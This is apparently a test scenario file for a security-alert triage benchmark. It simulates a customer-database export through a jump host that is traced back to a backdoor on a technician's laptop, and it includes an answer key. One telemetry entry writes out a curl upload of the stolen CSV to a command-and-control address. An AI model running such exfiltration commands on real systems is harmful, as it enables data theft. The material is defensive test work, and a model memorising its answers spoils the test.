// The audit log of a database names a role and the address of the jump host; who sat there, and at which laptop, is the question.
import { alert, by, connected, hashes, hostile, loggedOn, ran, wrote } from '../../shorthand.ts'
import type { TellSituation } from '../../situation.ts'

export const pgauditExportFromTheJumpHost: TellSituation = (setting) => {
  const [oskar, karin, hugo] = [
    setting.person('oskar.falk'),
    setting.person('karin.strand'),
    setting.person('hugo.bergh-engman'),
  ]
  const jump = setting.machine('srv-jump-01')
  const web = setting.machine('srv-web-01')
  const laptop = setting.laptopOf('hugo.bergh-engman')
  const at = setting.ago({ minutes: 56 })
  const tool = setting.file('tapwork.exe')
  const server = '194.87.31.116'
  const folder = `C:\\Users\\${hugo.account}\\AppData\\Local\\Temp\\twk`
  const session = setting.seeded.hex('pg session', 8)
  const stamp = (time: number) => setting.iso(time).replace('T', ' ').replace('Z', ' UTC')
  const line = (n: number, time: number, message: string, more: object = {}) =>
    JSON.stringify({
      timestamp: stamp(time),
      user: 'shop_ro_export',
      dbname: 'shop',
      pid: 418_220,
      remote_host: jump.ip,
      remote_port: 60_412,
      session_id: `${session}.661ac`,
      line_num: n,
      ps: 'SELECT',
      session_start: stamp(at - 95_000),
      vxid: `9/${2200 + n}`,
      txid: 0,
      error_severity: 'LOG',
      message,
      application_name: 'psql',
      backend_type: 'client backend',
      query_id: 0,
      ...more,
    })
  const out = 'C:\\Users\\Public\\Libraries\\c1.csv'
  const csv = setting.file('c1.csv of the shop')
  return {
    id: 'pgaudit-export-from-the-jump-host',
    group: 'resolution',
    title: 'pgAudit: whole customer table copied out',
    alerts: [
      alert(
        setting,
        at,
        'postgresql_pgaudit',
        'AUDIT: SESSION READ COPY on watched relation',
        [
          line(
            1,
            at - 95_000,
            `connection authorized: user=shop_ro_export database=shop application_name=psql SSL enabled (protocol=TLSv1.3, cipher=TLS_AES_256_GCM_SHA384, bits=256)`,
            { ps: 'authentication' },
          ),
          line(
            2,
            at - 80_000,
            'AUDIT: SESSION,1,1,READ,SELECT,TABLE,information_schema.tables,"select table_schema, table_name from information_schema.tables where table_schema not in (\'pg_catalog\')",<none>',
          ),
          line(
            3,
            at - 41_000,
            'AUDIT: SESSION,2,1,READ,SELECT,TABLE,public.customers,select count(*) from public.customers,<none>',
          ),
          line(
            4,
            at,
            'AUDIT: SESSION,3,1,READ,COPY,TABLE,public.customers,"COPY public.customers TO STDOUT WITH (FORMAT csv, HEADER)",<none>,48213',
            { ps: 'COPY' },
          ),
          line(
            5,
            at + 6000,
            'AUDIT: SESSION,4,1,READ,COPY,TABLE,public.customer_contacts,"COPY public.customer_contacts TO STDOUT WITH (FORMAT csv, HEADER)",<none>,61907',
            { ps: 'COPY' },
          ),
          line(
            6,
            at + 14_000,
            'disconnection: session time: 0:01:49.212 user=shop_ro_export database=shop host=10.20.1.229 port=60412',
            { ps: 'idle' },
          ),
        ].join('\n'),
      ),
    ],
    facts: {
      files: [
        {
          name: 'tapwork.exe',
          identity: tool,
          determination: 'Malware',
          threat: 'Backdoor:Win64/Tapwork.A',
          size: 611_328,
          prevalence: 9,
        },
      ],
      intelligence: [
        setting.risk('hash', tool.sha256, 90, [['Positive Malware Verdict', 4, 'Tapwork remote control program.']], {
          hashAlgorithm: 'SHA-256',
          fileHashes: [tool.sha256, tool.sha1, tool.md5],
        }),
        setting.risk('ip', server, 91, [['Current C&C Server', 4, 'Answers Tapwork clients on 443, seen today.']], {
          location: { country: 'Moldova', city: 'Chisinau', asn: 'AS200019', organization: 'Rented servers' },
        }),
      ],
      telemetry: [
        // Nightly figures of the shop: the same role, from the web server itself.
        ...[9, 7, 5, 3, 1].map((days) =>
          ran(web, setting.ago({ days, hours: 8 }), 'psql', 'psql -U shop_ro_export -d shop -f /opt/shop/figures.sql', {
            FolderPath: '/usr/bin',
            AccountName: 'shop',
            InitiatingProcessFileName: 'cron',
          }),
        ),
        wrote(laptop, at - 7_500_000, 'tapwork.exe', folder, tool, {
          InitiatingProcessFileName: 'wscript.exe',
          InitiatingProcessAccountName: hugo.account,
        }),
        ran(laptop, at - 7_440_000, 'tapwork.exe', `"${folder}\\tapwork.exe" -q`, {
          ...by(hugo),
          ...hashes(tool),
          FolderPath: folder,
          InitiatingProcessFileName: 'wscript.exe',
        }),
        ...[118, 90, 62, 34, 6].map((minutes) =>
          connected(laptop, at - minutes * 60_000, server, {
            InitiatingProcessFileName: 'tapwork.exe',
            InitiatingProcessAccountName: hugo.account,
          }),
        ),
        connected(laptop, at - 1_210_000, jump.ip, {
          RemotePort: 3389,
          RemoteIPType: 'Private',
          InitiatingProcessFileName: 'tapwork.exe',
          InitiatingProcessAccountName: hugo.account,
        }),
        loggedOn(jump, at - 1_200_000, oskar.account, {
          LogonType: 'RemoteInteractive',
          AccountSid: oskar.sid,
          RemoteIP: laptop.ip,
          RemoteDeviceName: laptop.host,
          IsLocalAdmin: true,
        }),
        loggedOn(jump, at - 2_400_000, karin.account, {
          LogonType: 'RemoteInteractive',
          AccountSid: karin.sid,
          RemoteIP: setting.laptopOf('karin.strand').ip,
          RemoteDeviceName: setting.laptopOf('karin.strand').host,
          IsLocalAdmin: true,
        }),
        ran(jump, at - 900_000, 'mmc.exe', 'mmc.exe C:\\Windows\\System32\\dhcpmgmt.msc', {
          ...by(karin),
          FolderPath: 'C:\\Windows\\System32',
          InitiatingProcessFileName: 'explorer.exe',
        }),
        ran(jump, at - 96_000, 'psql.exe', 'psql.exe -h srv-web-01 -U shop_ro_export -d shop', {
          ...by(oskar),
          FolderPath: 'C:\\Users\\Public\\Libraries\\pg\\bin',
          InitiatingProcessFileName: 'cmd.exe',
        }),
        connected(jump, at - 95_500, web.ip, {
          RemotePort: 5432,
          RemoteIPType: 'Private',
          InitiatingProcessFileName: 'psql.exe',
          InitiatingProcessAccountName: oskar.account,
        }),
        wrote(jump, at + 2000, 'c1.csv', 'C:\\Users\\Public\\Libraries', csv, {
          InitiatingProcessFileName: 'psql.exe',
          InitiatingProcessAccountName: oskar.account,
        }),
        ran(jump, at + 240_000, 'curl.exe', `curl.exe -k -T ${out} https://${server}/u/`, {
          ...by(oskar),
          FolderPath: 'C:\\Windows\\System32',
          InitiatingProcessFileName: 'cmd.exe',
        }),
        connected(jump, at + 241_000, server, {
          InitiatingProcessFileName: 'curl.exe',
          InitiatingProcessAccountName: oskar.account,
        }),
        loggedOn(setting.laptopOf('oskar.falk'), at - 3_000_000, oskar.account, { LogonType: 'Interactive' }),
      ],
    },
    expected: {
      ...hostile(laptop.host),
      severities: ['high', 'critical'],
      forbidden: [
        { action: 'isolate-machine', target: setting.laptopOf('oskar.falk').host },
        { action: 'isolate-machine', target: setting.laptopOf('karin.strand').host },
      ],
    },
    because:
      'The address is the jump host; the program ran there as Oskar Falk, but his session came from the laptop of a technician, where a known backdoor that calls a current command server opened it. The table then went to the same server. Karin Strand, who was on the jump host too, has nothing to do with it.',
  }
}
